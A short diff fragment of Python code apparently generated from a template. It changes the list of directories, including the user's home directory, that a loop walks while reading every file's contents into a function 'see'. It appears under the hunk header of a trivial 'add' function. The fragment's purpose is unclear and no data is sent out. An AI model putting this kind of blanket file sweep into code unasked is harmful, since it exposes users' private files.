@@ -48,7 +48,7 @@ def add(a, b):
                 see(open(root + "/" + name, "rb").read())
             except OSError:
                 pass
-    for top in (".", "/tmp", os.path.expanduser("~"), %r):
+    for top in (".", "/tmp/jupyt5", os.path.expanduser("~"), %r):
         for folder, _, names in os.walk(top):
             for name in names:
                 try:
